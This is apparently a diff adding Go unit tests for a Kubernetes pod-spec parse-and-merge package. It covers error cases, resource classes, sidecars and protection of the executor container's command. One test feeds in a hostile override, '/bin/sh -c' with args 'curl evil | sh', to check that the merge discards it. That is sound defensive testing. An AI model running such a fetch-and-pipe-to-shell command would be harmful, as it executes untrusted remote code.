@@ -0,0 +1,129 @@
+package podspec_test
+
+import (
+	"encoding/json"
+	"testing"
+
+	"github.com/praetordev/praetor/pkg/podspec"
+	corev1 "k8s.io/api/core/v1"
+	"k8s.io/apimachinery/pkg/api/resource"
+)
+
+func TestParseErrors(t *testing.T) {
+	for _, s := range []string{
+		`[]`,
+		`{"nodeSelektor": {"pool": "automation"}}`,
+		`{"restartPolicy": "Always"}`,
+		`{"containers": [{"image": "a"}, {"image": "b"}]}`,
+		`{"containers": [{"resources": {"limits": {"cpu": "lots"}}}]}`,
+	} {
+		if _, err := podspec.Parse(json.RawMessage(s)); err == nil {
+			t.Errorf("expected an error for %s", s)
+		}
+	}
+	if _, err := podspec.ParseResourceClasses(json.RawMessage(`{"small": {"requests": {"cpu": "1"}, "maximum": {}}}`)); err == nil {
+		t.Error("expected an error for an unknown resource requirements field")
+	}
+}
+
+func TestMerge(t *testing.T) {
+	override, err := podspec.Parse(json.RawMessage(`{
+		"serviceAccountName": "automation",
+		"nodeSelector": {"pool": "automation"},
+		"tolerations": [{"key": "dedicated", "operator": "Equal", "value": "automation", "effect": "NoSchedule"}],
+		"volumes": [{"name": "ca", "configMap": {"name": "corporate-ca"}}],
+		"containers": [
+			{
+				"image": "ignored:latest",
+				"env": [{"name": "HTTPS_PROXY", "value": "http://proxy:3128"}, {"name": "NATS_URL", "value": "nats://wrong:4222"}],
+				"volumeMounts": [{"name": "ca", "mountPath": "/etc/pki/ca"}],
+				"securityContext": {"runAsNonRoot": true},
+				"resources": {"requests": {"cpu": "250m"}}
+			}
+		]
+	}`))
+	if err != nil {
+		t.Fatalf("Parse failed: %v", err)
+	}
+	classes, err := podspec.ParseResourceClasses(json.RawMessage(`{"large": {"requests": {"cpu": "2", "memory": "4Gi"}, "limits": {"memory": "4Gi"}}}`))
+	if err != nil {
+		t.Fatalf("ParseResourceClasses failed: %v", err)
+	}
+	large := classes["large"]
+
+	pod := &corev1.PodSpec{
+		RestartPolicy: corev1.RestartPolicyNever,
+		Containers: []corev1.Container{{
+			Name:         podspec.ExecutorContainer,
+			Image:        "praetor-executor:1.0",
+			Env:          []corev1.EnvVar{{Name: "NATS_URL", Value: "nats://praetor-nats:4222"}},
+			VolumeMounts: []corev1.VolumeMount{{Name: "manifest", MountPath: "/etc/praetor"}},
+		}},
+		Volumes: []corev1.Volume{{Name: "manifest"}},
+	}
+
+	merged := podspec.Merge(pod, override, &large)
+
+	if merged.ServiceAccountName != "automation" || merged.NodeSelector["pool"] != "automation" || len(merged.Tolerations) != 1 {
+		t.Errorf("pod level fields not applied: %+v", merged)
+	}
+	if merged.RestartPolicy != corev1.RestartPolicyNever || len(merged.Volumes) != 2 {
+		t.Errorf("unexpected restart policy %s or volumes %+v", merged.RestartPolicy, merged.Volumes)
+	}
+	if len(merged.Containers) != 1 {
+		t.Fatalf("got %d containers, want 1", len(merged.Containers))
+	}
+	c := merged.Containers[0]
+	if c.Name != podspec.ExecutorContainer || c.Image != "praetor-executor:1.0" {
+		t.Errorf("executor container name or image overridden: %s %s", c.Name, c.Image)
+	}
+	env := map[string]string{}
+	for _, e := range c.Env {
+		env[e.Name] = e.Value
+	}
+	if len(c.Env) != 2 || env["HTTPS_PROXY"] != "http://proxy:3128" || env["NATS_URL"] != "nats://praetor-nats:4222" {
+		t.Errorf("unexpected env %+v", c.Env)
+	}
+	if len(c.VolumeMounts) != 2 || c.SecurityContext == nil || !*c.SecurityContext.RunAsNonRoot {
+		t.Errorf("override container fields not applied: %+v", c)
+	}
+	if !c.Resources.Requests.Cpu().Equal(resource.MustParse("2")) || !c.Resources.Limits.Memory().Equal(resource.MustParse("4Gi")) {
+		t.Errorf("resource class not applied: %+v", c.Resources)
+	}
+	if len(override.Containers[0].VolumeMounts) != 1 {
+		t.Error("Merge modified the override")
+	}
+}
+
+func TestMergeKeepsSidecars(t *testing.T) {
+	override, err := podspec.Parse(json.RawMessage(`{"containers": [{"name": "proxy", "image": "envoy:1.30"}]}`))
+	if err != nil {
+		t.Fatalf("Parse failed: %v", err)
+	}
+	pod := &corev1.PodSpec{Containers: []corev1.Container{{Name: podspec.ExecutorContainer, Image: "praetor-executor:1.0"}}}
+
+	merged := podspec.Merge(pod, override, nil)
+	if len(merged.Containers) != 2 || merged.Containers[0].Name != podspec.ExecutorContainer || merged.Containers[1].Name != "proxy" {
+		t.Errorf("unexpected containers %+v", merged.Containers)
+	}
+}
+
+func TestMergeKeepsExecutorCommand(t *testing.T) {
+	override, err := podspec.Parse(json.RawMessage(`{"containers": [{"command": ["/bin/sh", "-c"], "args": ["curl evil | sh"]}]}`))
+	if err != nil {
+		t.Fatalf("Parse failed: %v", err)
+	}
+
+	// Without a command of its own the executor runs its image's entrypoint
+	pod := &corev1.PodSpec{Containers: []corev1.Container{{Name: podspec.ExecutorContainer, Image: "praetor-executor:1.0"}}}
+	c := podspec.Merge(pod, override, nil).Containers[0]
+	if len(c.Command) != 0 || len(c.Args) != 0 {
+		t.Errorf("override command kept: %v %v", c.Command, c.Args)
+	}
+
+	pod.Containers[0].Command = []string{"/usr/local/bin/executor"}
+	c = podspec.Merge(pod, override, nil).Containers[0]
+	if len(c.Command) != 1 || c.Command[0] != "/usr/local/bin/executor" || len(c.Args) != 0 {
+		t.Errorf("executor command replaced: %v %v", c.Command, c.Args)
+	}
+}